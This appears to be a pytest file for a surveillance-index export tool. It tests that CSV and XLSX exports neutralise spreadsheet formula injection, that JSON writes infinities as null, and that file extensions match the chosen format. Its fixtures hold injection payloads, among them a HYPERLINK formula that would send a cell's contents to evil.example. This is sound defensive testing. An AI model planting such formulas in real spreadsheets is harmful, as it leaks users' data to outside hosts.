"""Exports are safe to open: no live formulas, strict JSON, and an OUT that matches --format."""

from __future__ import annotations

import csv
import json
import math
import re
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from survindex.publish.cells import FORMULA_TRIGGERS, neutralise_formula
from survindex.publish.export import ExportError, check_output_name, export_edition
from survindex.publish.jsonout import dumps_strict
from survindex.store.database import Store

EDITION = "aigs-2022"
EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _export(store: Store, fmt: str, out: Path) -> list[Path]:
    with store.read() as session:
        return export_edition(session=session, slug=EDITION, fmt=fmt, out=out)


def _sql(store: Store, *statements: str) -> None:
    connection = sqlite3.connect(str(store.engine.url.database))
    try:
        for statement in statements:
            connection.execute(statement)
        connection.commit()
    finally:
        connection.close()


EDITION_ID = f"(SELECT id FROM editions WHERE slug = '{EDITION}')"
FIRST_CLAIM = (
    f"(SELECT min(id) FROM claims WHERE edition_id = {EDITION_ID} AND claim_status = 'accepted')"
)


@pytest.fixture
def hostile_store(store_copy) -> tuple[Store, int]:
    """A copy of the index whose source title and first claim hold formula-like text, and
    whose Kenya has a negative Digital Repression Index (a number that must stay one)."""
    store = store_copy()
    _sql(
        store,
        "UPDATE sources SET title = '{}' WHERE id = (SELECT source_id FROM editions "
        "WHERE slug = '{}')".format(EVIL_TITLE.replace("'", "''"), EDITION),
        f"UPDATE claims SET vendor_name_in_source = '@SUM(1+1)', city = '+cmd', "
        f"locator = char(9) || '=1+1' WHERE id = {FIRST_CLAIM}",
        "UPDATE edition_countries SET digital_repression_index = -1.25 "
        f"WHERE iso3 = 'KEN' AND edition_id = {EDITION_ID}",
    )
    with store.read() as session:
        claim_id = session.connection().exec_driver_sql(FIRST_CLAIM.strip("()")).scalar_one()
    return store, claim_id


def test_neutralise_formula_examples():
    assert neutralise_formula(EVIL_TITLE) == "'" + EVIL_TITLE
    for text in ("+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-inf", "-1_000"):
        assert neutralise_formula(text) == "'" + text
    for text in ("-5.5", "+3", "-1e5", ".5", "Nairobi", "", "a=b"):
        assert neutralise_formula(text) == text


def test_csv_cells_are_never_formulas(hostile_store, tmp_path):
    store, claim_id = hostile_store
    _export(store, "csv", tmp_path)
    for path in tmp_path.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(FORMULA_TRIGGERS) or PLAIN_NUMBER.fullmatch(cell)
    with (tmp_path / "claims.csv").open(encoding="utf-8", newline="") as handle:
        claim = next(r for r in csv.DictReader(handle) if r["claim_id"] == str(claim_id))
    assert claim["source_title"] == "'" + EVIL_TITLE
    assert claim["vendor_name_in_source"] == "'@SUM(1+1)"
    assert claim["city"] == "'+cmd"
    assert claim["locator"] == "'\t=1+1"
    with (tmp_path / "countries.csv").open(encoding="utf-8", newline="") as handle:
        kenya = next(r for r in csv.DictReader(handle) if r["iso3"] == "KEN")
    assert kenya["digital_repression_index"] == "-1.25"  # a number keeps its sign


def test_xlsx_stores_text_never_formulas(hostile_store, tmp_path):
    store, claim_id = hostile_store
    out = tmp_path / "index.xlsx"
    _export(store, "xlsx", out)
    workbook = load_workbook(out)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(FORMULA_TRIGGERS), cell.coordinate
    rows = list(workbook["claims"].iter_rows(values_only=True))
    header = rows[0]
    claim = dict(zip(header, next(r for r in rows if r[0] == claim_id), strict=True))
    assert claim["source_title"] == "'" + EVIL_TITLE
    countries = list(workbook["countries"].iter_rows())
    column = [c.value for c in countries[0]].index("digital_repression_index")
    kenya = next(r for r in countries if r[0].value == "KEN")[column]
    assert (kenya.value, kenya.data_type) == (-1.25, "n")


def test_data_package_and_json_keep_the_exact_text(hostile_store, tmp_path):
    """Programs read these; a quote must stay exactly as it is at its offsets."""
    store, _ = hostile_store
    _export(store, "datapackage", tmp_path / "pkg")
    with (tmp_path / "pkg" / "sources.csv").open(encoding="utf-8", newline="") as handle:
        assert EVIL_TITLE in {r["title"] for r in csv.DictReader(handle)}
    _export(store, "json", tmp_path / "x.json")
    document = json.loads((tmp_path / "x.json").read_text("utf-8"))
    assert EVIL_TITLE in {s["title"] for s in document["sources"]}


def _strict(text: str) -> Any:
    def refuse(token: str) -> None:
        raise AssertionError(f"{token} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_infinite_numbers_are_written_as_null(store_copy, tmp_path, world_map):
    store = store_copy()
    _sql(
        store,
        "UPDATE edition_countries SET military_usd_millions = 9e999 "
        f"WHERE iso3 = 'KEN' AND edition_id = {EDITION_ID}",
        f"UPDATE claims SET confidence = -9e999 WHERE id = {FIRST_CLAIM}",
        f"UPDATE published_figures SET value = 9e999 "
        f"WHERE finding_id = 'countries.using_any' AND edition_id = {EDITION_ID}",
    )
    with store.read() as session:
        stored = session.connection().exec_driver_sql(
            "SELECT military_usd_millions FROM edition_countries "
            f"WHERE iso3 = 'KEN' AND edition_id = {EDITION_ID}"
        )
        assert stored.scalar_one() == math.inf  # the database really holds inf

    _export(store, "json", tmp_path / "x.json")
    document = _strict((tmp_path / "x.json").read_text("utf-8"))
    kenya = next(c for c in document["countries"] if c["iso3"] == "KEN")
    assert kenya["military_usd_millions"] is None
    confidences = [
        claim["confidence"]
        for country in document["countries"]
        for deployment in country["deployments"]
        for claim in deployment["claims"]
    ]
    assert confidences.count(None) == 1
    using_any = next(f for f in document["findings"] if f["id"] == "countries.using_any")
    assert using_any["published"] is None

    _export(store, "geojson", tmp_path / "x.geojson")
    features = _strict((tmp_path / "x.geojson").read_text("utf-8"))["features"]
    assert (
        next(f for f in features if f["id"] == "KEN")["properties"]["military_usd_millions"] is None
    )

    _export(store, "datapackage", tmp_path / "pkg")
    _strict((tmp_path / "pkg" / "datapackage.json").read_text("utf-8"))
    with (tmp_path / "pkg" / "countries.csv").open(encoding="utf-8", newline="") as handle:
        assert (
            next(r for r in csv.DictReader(handle) if r["iso3"] == "KEN")["military_usd_millions"]
            == ""
        )

    _export(store, "sqlite", tmp_path / "x.db")
    _strict((tmp_path / "metadata.json").read_text("utf-8"))
    connection = sqlite3.connect(tmp_path / "x.db")
    try:
        value = connection.execute(
            "SELECT military_usd_millions FROM countries WHERE iso3 = 'KEN'"
        ).fetchone()
    finally:
        connection.close()
    assert value == (None,)


def test_dumps_strict_turns_nan_and_inf_into_null():
    document = {"a": math.nan, "b": [math.inf, 1.5, {"c": -math.inf}], "d": (math.nan,)}
    assert _strict(dumps_strict(document, indent=None)) == {
        "a": None,
        "b": [None, 1.5, {"c": None}],
        "d": [None],
    }


@pytest.mark.parametrize(
    ("fmt", "name"),
    [
        ("csv", "out.xlsx"),
        ("csv", "out.csv"),
        ("xlsx", "out.csv"),
        ("json", "out.geojson"),
        ("geojson", "out.xlsx"),
        ("sqlite", "out.json"),
        ("datapackage", "pkg.zip"),
    ],
)
def test_contradicting_extension_is_refused(fmt, name):
    with pytest.raises(ExportError, match=f"--format {fmt}"):
        check_output_name(fmt, Path(name))


@pytest.mark.parametrize(
    ("fmt", "name"),
    [
        ("csv", "out"),
        ("csv", "export.2024"),
        ("xlsx", "out.XLSX"),
        ("geojson", "out.json"),
        ("sqlite", "out.sqlite"),
        ("datapackage", "pkg"),
    ],
)
def test_matching_or_neutral_extension_is_accepted(fmt, name):
    check_output_name(fmt, Path(name))


def test_cli_refuses_contradicting_extension_and_writes_nothing(built_store, tmp_path):
    from survindex.interfaces.cli import app

    db = str(built_store.engine.url.database)
    out = tmp_path / "out.xlsx"
    result = CliRunner().invoke(
        app, ["--db", db, "export", "--edition", EDITION, "--format", "csv", str(out)]
    )
    assert result.exit_code != 0
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1, result.output
    assert "out.xlsx" in lines[0] and "--format csv" in lines[0]
    assert list(tmp_path.iterdir()) == []
